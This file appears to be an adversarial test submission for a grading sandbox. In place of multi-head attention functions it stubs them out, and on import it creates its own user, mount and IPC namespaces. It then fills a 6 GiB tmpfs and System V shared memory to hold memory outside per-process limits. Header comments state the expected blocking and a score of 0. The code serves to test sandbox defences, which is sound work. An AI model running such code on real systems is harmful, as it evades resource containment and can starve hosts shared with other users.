# ATTACK: makes limits of its own: unshares a user, mount and IPC namespace (where it is root and System V shared memory is uncapped again), mounts a 6 GiB tmpfs on /tmp and fills it with 8 MiB files (under RLIMIT_FSIZE), 6 GiB in all, then creates 256 MiB shared memory segments there too; tmpfs and shm pages are in no process's size; stubs report what was held.
# HONEST: 0
# EXPECT: where a cgroup limits the sandbox those pages are charged to it and the sandbox is stopped as over the memory limit; where none is, new user and IPC namespaces are refused (seccomp), so nothing is held ("held 0 MiB"); score 0; grader exit status 0.
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_TOTAL, _FILE, _SEGMENT = 6 << 30, 8 << 20, 256 << 20


def _own_namespaces() -> bool:
    uid, gid = os.getuid(), os.getgid()
    if _libc.unshare(0x10000000 | 0x00020000 | 0x08000000) != 0:   # NEWUSER | NEWNS | NEWIPC
        return False
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:                        # unmapped, it still holds every capability there
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
        except OSError:
            pass
    return _libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=6g") == 0


def _fill_tmpfs() -> int:
    held, block = 0, b"\x5a" * _FILE
    while held < _TOTAL:
        try:
            with open(f"/tmp/hold{held // _FILE}", "wb") as f:
                f.write(block)
        except OSError:
            break
        held += _FILE
    return held


def _fill_shm() -> int:
    held = 0
    while held < _TOTAL:
        sid = _libc.shmget(0, ctypes.c_size_t(_SEGMENT), 0o1000 | 0o600)
        if sid < 0:
            break
        addr = _libc.shmat(sid, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(addr, 0x5A, _SEGMENT)
        _libc.shmdt(ctypes.c_void_p(addr))
        held += _SEGMENT
    return held


HELD = (_fill_tmpfs() + _fill_shm()) if _own_namespaces() else 0


def _stub(*args, **kwargs):
    raise ValueError(f"held {HELD >> 20} MiB in a tmpfs and shared memory of its own")


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        _stub()
